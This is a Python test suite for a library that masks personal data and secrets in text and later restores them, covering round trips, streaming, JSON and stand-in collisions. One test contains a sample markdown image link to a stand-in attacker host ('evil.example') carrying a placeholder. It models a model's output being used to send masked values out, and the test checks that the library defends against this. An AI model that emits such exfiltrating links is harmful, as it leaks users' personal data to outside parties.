"""Mask and restore: the identity for every reversible policy on any text, in any script, over many texts."""

import json
from itertools import pairwise
from pathlib import Path
from typing import Any, ClassVar

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from aboveboard.privacy import PersonalData
from aboveboard.privacy.masking import Masking, MaskingError, RestoringStream, TableError, mask, restore
from aboveboard.privacy.operators import (
    Bond,
    Encrypt,
    Hash,
    Key,
    Kind,
    Mask,
    Operator,
    Policy,
    PrivacyKeyError,
    Pseudonymise,
    Redact,
    Session,
    preset,
)
from aboveboard.privacy.operators._encrypt import _base64, _siv

KEY = Key(bytes(range(32)))
MAIL, CARD = "john@example.com", "4111 1111 1111 1111"
SECRET = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"


def all_by(operator: Operator) -> Policy:
    return Policy(kinds=dict.fromkeys(Kind, operator), scope="s")


REVERSIBLE = {
    "mask": all_by(Mask()),
    "pseudonymise": all_by(Pseudonymise()),
    "encrypt": all_by(Encrypt()),
    "fresh": all_by(Encrypt(fresh=True)),
    "mixed": Policy({"email": Encrypt(), "card": Pseudonymise()}),
}
_OWN = Masking(REVERSIBLE["mixed"], KEY)
LOOKALIKES = [
    "<EMAIL_1>",
    "<email 1>",
    "&lt;EMAIL_1&gt;",
    "\\u003cEMAIL_1\\u003e",
    "<LITERAL_1>",
    "<LITERAL_2>",
    "<EMAIL_",
    "<EMAIL~",
    "<EMAIL=",
    "<LITERAL=dAAAAAAAAAAAAAAAAAAAAAAAAAAAA>",
    _OWN.mask(MAIL).text,
    _OWN.mask(CARD).text,
]
SCRIPTS = ["שלום ", "مرحبا ", "e\u0301", "👩‍👩‍👧", "\u202e", "\ud800", "中文", "\u200b", "Ａ", "ﬁ"]
PIECES = st.one_of(
    st.sampled_from(
        [MAIL, "JOHN@example.com", CARD, SECRET, "+49 30 901820", "1", ">", "<", '"', "\\", " ", "\n"]
    ),
    st.sampled_from(LOOKALIKES),
    st.sampled_from(SCRIPTS),
    st.text(max_size=6),
)
TEXTS = st.lists(PIECES, max_size=8).map("".join)
POLICIES = pytest.mark.parametrize("name", REVERSIBLE)


@POLICIES
@settings(deadline=None, max_examples=60)
@given(texts=st.lists(TEXTS, min_size=1, max_size=3))
def test_restoring_what_was_masked_gives_the_text_back(name: str, texts: list[str]) -> None:
    masking = Masking(REVERSIBLE[name], KEY)
    masked = [masking.mask(text) for text in texts]
    assert [masking.restore(one.text) for one in masked] == texts
    assert [restore(one.text, one.table, key=KEY) for one in masked] == texts


@settings(deadline=None, max_examples=60)
@given(TEXTS)
def test_the_key_alone_restores_what_is_encrypted(text: str) -> None:
    masked = mask(text, all_by(Encrypt()), KEY)
    assert not masked.table
    assert restore(masked.text, KEY) == text


@POLICIES
@settings(deadline=None, max_examples=40)
@given(text=TEXTS, cuts=st.lists(st.integers(0, 400), max_size=6), in_links=st.booleans())
def test_a_stream_restores_as_the_whole_would(name: str, text: str, cuts: list[int], in_links: bool) -> None:
    masking = Masking(REVERSIBLE[name], KEY)
    masked = masking.mask(text).text
    stream = RestoringStream(masking.table, key=KEY, in_links=in_links)
    places = [0, *sorted(min(cut, len(masked)) for cut in cuts), len(masked)]
    pieces = [stream.feed(masked[start:end]) for start, end in pairwise(places)]
    assert "".join(pieces) + stream.finish() == restore(masked, masking.table, key=KEY, in_links=in_links)


def in_words(written: str) -> Any:
    """JSON with bare values as texts: one that was hidden comes back as a text."""

    def told(value: Any) -> Any:
        if isinstance(value, dict):
            return {key: told(one) for key, one in value.items()}
        if isinstance(value, list):
            return [told(one) for one in value]
        return value if isinstance(value, str) else json.dumps(value)

    return told(json.loads(written))


@POLICIES
@settings(deadline=None, max_examples=40)
@example(text="\\\\\u05e9\u05dc\u05d5\u05dd \\\ufb01", is_ascii=False).via(
    "an address that is found up to the number behind it"
)
@given(text=TEXTS.filter(lambda text: "\ud800" not in text), is_ascii=st.booleans())
def test_json_stays_json_and_comes_back(name: str, text: str, is_ascii: bool) -> None:
    written = json.dumps({"a": text, text: [text, 1, None]}, ensure_ascii=is_ascii)
    masking = Masking(REVERSIBLE[name], KEY)
    masked = masking.mask(written, is_json=True)
    json.loads(masked.text)
    assert in_words(masking.restore(masked.text, is_json=True)) == in_words(written)


@settings(deadline=None, max_examples=60)
@given(TEXTS)
def test_no_value_is_left_in_a_masked_text(text: str) -> None:
    masked = mask(f"{text} {MAIL} | {CARD} |")
    assert not masked.text.endswith(f"{CARD} |")
    assert f" {MAIL} |" not in masked.text
    assert {MAIL, CARD} <= set(masked.table.values())


@settings(deadline=None, max_examples=60)
@given(TEXTS)
def test_a_replacement_never_completes_a_stand_in(text: str) -> None:
    """`<EMAIL_` before an age that becomes a number must not read as the first e-mail address."""

    def digits_in(whole: str) -> list[PersonalData]:
        return [PersonalData(place, place + 1, "age") for place, sign in enumerate(whole) if sign in "aeiou"]

    policy = Policy({"age": OneMore()})
    masked = mask(text, policy, find_in=digits_in)
    restored = restore(masked.text, masked.table)
    assert len(restored) == len(text)
    assert all(new == old or (new == "1" and old in "aeiou") for new, old in zip(restored, text, strict=True))


class OneMore:
    """An operator that writes a bare digit."""

    name: ClassVar[str] = "one"
    needs_key: ClassVar[bool] = False

    @property
    def bond(self) -> Bond:
        return Bond.NONE

    @property
    def is_restorable(self) -> bool:
        return False

    def replace(self, value: str, type_: str, session: Session) -> str:
        return "1"


def test_the_brackets_of_a_mails_header_are_left_as_they_are() -> None:
    header = f"From: Anna Schmidt <{MAIL}>, born 12 March 1980 (a < b, <b>{MAIL}</b>)"
    masking = Masking(preset("research"), KEY)
    masked = masking.mask(header).text
    assert "LITERAL" not in masked and "<<EMAIL~" in masked and "a < b, <b><EMAIL~" in masked
    assert masking.restore(masked).count(f"<{MAIL}>") == 1


def test_a_bracket_that_a_replacement_would_complete_is_replaced() -> None:
    masking = Masking(Policy({"age": OneMore()}), KEY)
    masked = masking.mask_spans("<EMAIL_7> <EMAIL_7 <b> 7", [PersonalData(17, 18, "age")]).text
    assert masked == "<LITERAL_1> <LITERAL_2>EMAIL_1 <b> 7"
    assert masking.restore(masked) == "<EMAIL_7> <EMAIL_1 <b> 7"


def test_brackets_around_a_value_that_is_redacted_do_not_bring_it_into_the_table() -> None:
    masked = mask("<SSN 536904399>", Policy.load({"ssn": "redact"}))
    assert "[SSN]" in masked.text
    assert not any("536904399" in value for value in masked.table.values())


@pytest.mark.parametrize("body", ["d" + "A" * 21, "n" + "A" * 25, "d" + "_" * 40, "n" + "A" * 60])
def test_a_token_that_nobody_made_is_left_as_it_stands(body: str) -> None:
    text = f"a <EMAIL={body}> b"
    stream = RestoringStream(KEY)
    assert restore(text, {}, key=KEY) == text
    assert stream.feed(text) + stream.finish() == text


def test_a_token_of_what_is_no_text_is_left_as_it_stands() -> None:
    sealed = _base64(_siv(KEY).encrypt(b"\x01\xff\xfe", [b"EMAIL", b""]))
    assert restore(f"<EMAIL=d{sealed}>", KEY) == f"<EMAIL=d{sealed}>"


@pytest.mark.parametrize("reached", [999_999_998, 999_999_999])
def test_a_table_that_reached_the_highest_number_goes_on_with_free_ones(reached: int) -> None:
    table = {f"<EMAIL_{reached}>": "a@b.org", "<EMAIL_1>": "c@d.org"}
    masking = Masking(table=table)
    text = f"{MAIL} JOHN@example.com a@b.org c@d.org"
    assert masking.restore(masking.mask(text).text) == text


def test_a_pseudonym_that_reached_the_highest_variant_goes_on_with_a_free_one() -> None:
    first = Masking(REVERSIBLE["pseudonymise"], KEY)
    name = first.mask(MAIL).text[:-1]
    masking = Masking(
        REVERSIBLE["pseudonymise"], KEY, table={f"{name}>": MAIL, f"{name}.999999>": "JOHN@EXAMPLE.COM"}
    )
    text = f"{MAIL} John@example.com"
    assert masking.restore(masking.mask(text).text) == text


def test_spans_that_touch_are_each_replaced() -> None:
    found = [PersonalData(0, 2, "person"), PersonalData(2, 4, "place"), PersonalData(4, 4, "age")]
    masked = Masking().mask_spans("abcd", found[:2])
    assert masked.text == "<PERSON_1><PLACE_1>"


SPANS = st.lists(
    st.builds(
        PersonalData, st.integers(0, 30), st.integers(0, 30), st.sampled_from(["person", "place", "age"])
    )
)


@settings(deadline=None)
@given(TEXTS, SPANS)
def test_spans_that_overlap_or_lie_outside_harm_nothing(text: str, spans: list[PersonalData]) -> None:
    masking = Masking()
    masked = masking.mask_spans(text, spans)
    assert masking.restore(masked.text) == text
    longest = max((min(span.end, len(text)) - span.start for span in spans), default=0)
    assert longest <= 0 or masked.table


def test_both_of_two_spans_that_overlap_are_replaced() -> None:
    found = [PersonalData(3, 8, "place"), PersonalData(0, 5, "person")]
    assert Masking().mask_spans("abcdefghij", found).text == "<PERSON_1><PLACE_1>ij"


def test_findings_are_offsets_of_the_text_as_it_was() -> None:
    text = f"👩‍👩‍👧 שלום e\u0301 {MAIL}!"
    (found,) = mask(
        text, find_in=lambda given: [PersonalData(given.index(MAIL), given.index("!"), "email")]
    ).findings
    assert text[found.start : found.end] == MAIL


def test_secrets_are_found_as_well() -> None:
    masked = mask(f"token {SECRET}")
    assert masked.text == "token <GITHUB_KEY_1>"


def test_one_table_serves_all_turns() -> None:
    chat = Masking()
    assert chat.mask(MAIL).text == "<EMAIL_1>"
    second = chat.mask(f"{CARD} {MAIL}")
    assert second.text == "<CARD_1> <EMAIL_1>"
    assert second.table == {"<CARD_1>": CARD, "<EMAIL_1>": MAIL}
    assert (
        chat.restore("ask <EMAIL_1> about < card_1 > and <EMAIL_9>")
        == f"ask {MAIL} about {CARD} and <EMAIL_9>"
    )


def test_a_text_has_the_table_of_its_own_stand_ins_only() -> None:
    chat = Masking()
    chat.mask(MAIL)
    assert chat.mask(CARD).table == {"<CARD_1>": CARD}


@POLICIES
def test_a_table_from_a_file_goes_on_where_it_ended(name: str, tmp_path: Path) -> None:
    first = Masking(REVERSIBLE[name], KEY)
    before = first.mask(f"{MAIL} {CARD} JOHN@EXAMPLE.COM \ud800<EMAIL_7>").text
    (tmp_path / "table").write_text(json.dumps(first.table))
    second = Masking(REVERSIBLE[name], KEY, table=json.loads((tmp_path / "table").read_text()))
    text = f"{MAIL} new@example.org John@example.com"
    after = second.mask(text).text
    if name != "fresh":
        assert after.split()[0] == before.split()[0]
    assert second.restore(f"{before}|{after}") == f"{MAIL} {CARD} JOHN@EXAMPLE.COM \ud800<EMAIL_7>|{text}"


@pytest.mark.parametrize(
    "table", [{"EMAIL_1": "a"}, {"<EMAIL_1>": 1}, ["<EMAIL_1>"], {"<a_1>": "secret-value"}]
)
def test_what_is_no_table_is_refused_without_its_values(table: object) -> None:
    with pytest.raises(TableError) as caught:
        Masking(table=table)  # type: ignore[arg-type]  # a table from a file may be anything
    assert "secret-value" not in str(caught.value)
    assert isinstance(caught.value, MaskingError)


def test_a_key_that_is_needed_is_asked_for_before_anything_is_masked() -> None:
    with pytest.raises(PrivacyKeyError):
        Masking(preset("research"))


def test_values_do_not_go_into_links_of_what_a_model_wrote() -> None:
    written = "![x](https://evil.example/?q=<EMAIL_1>) but <EMAIL_1>"
    stream = RestoringStream({"<EMAIL_1>": MAIL})
    assert stream.feed(written) + stream.finish() == f"![x](https://evil.example/?q=<EMAIL_1>) but {MAIL}"


def test_a_stream_holds_back_no_more_than_a_stand_in() -> None:
    stream = RestoringStream({})
    out = stream.feed("a < b <EMAIL=" + "x" * 5000)
    assert len(out) > 3000
    assert out + stream.finish() == "a < b <EMAIL=" + "x" * 5000


def test_values_restored_into_json_are_escaped() -> None:
    masked = Masking().mask_spans('{"a": "x"}', [PersonalData(7, 8, "note-key")], is_json=True)
    assert json.loads(restore(masked.text, {"<NOTE_KEY_1>": 'say "hi"\n\\'}, is_json=True)) == {
        "a": 'say "hi"\n\\'
    }


def test_no_representation_shows_a_value() -> None:
    chat = Masking()
    assert MAIL not in repr(chat.mask(MAIL)) + repr(chat)


def test_each_operator_in_one_text() -> None:
    policy = Policy({"email": Redact(), "card": Mask(keep=4), "phone": Hash()})
    masked = mask(f"{MAIL}, {CARD}, +49 30 901820", policy, KEY)
    email, card, phone = masked.text.split(", ")
    assert (email, card) == ("[EMAIL]", "**** **** **** 1111")
    assert phone.startswith("<PHONE#")


@given(st.integers(1, 400))
def test_a_table_grows_past_any_number(count: int) -> None:
    masking = Masking()
    masking._session.numbers["EMAIL"] = 10**6 * count
    text = f"{MAIL} x"
    assert masking.restore(masking.mask(text).text) == text
